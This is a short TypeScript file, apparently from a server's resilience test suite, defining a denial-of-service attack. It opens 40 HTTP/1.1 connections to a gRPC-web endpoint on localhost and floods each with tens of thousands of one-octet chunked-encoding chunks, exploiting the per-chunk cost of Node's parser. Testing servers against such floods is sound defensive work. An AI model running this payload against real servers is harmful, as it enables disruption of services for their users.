import { type Attack, CALL } from "./attack.js";

const HEAD = Buffer.from([0, 0, 0, 0xff, 0]);
/** As many chunks of one octet as fit into a read of the server's. */
const CHUNKS = Buffer.from("1\r\n\0\r\n".repeat(10_000));

/**
 * The same over HTTP/1.1: chunks of one octet, each of which Node keeps by itself until it is read. A few hundred thousand
 * in all, since each takes Node's parser some 10 us: more would only make the attack last.
 */
export const oneOctetChunks: Attack = {
  name: "one-octet chunks, HTTP/1.1",
  connections: 40,
  protocol: "http/1.1",
  staysOpen: true,
  async run(connection) {
    const type = "Content-Type: application/grpc-web+proto";
    const head = [`POST ${CALL} HTTP/1.1`, "Host: localhost", type, "Transfer-Encoding: chunked"];
    const start = `5\r\n${HEAD.toString("latin1")}\r\n`;
    const bytes = Buffer.from([...head, "", start].join("\r\n"), "latin1");
    await connection.write(Buffer.concat([bytes, CHUNKS]), 10_002);
    await connection.waitForEnd();
  },
};
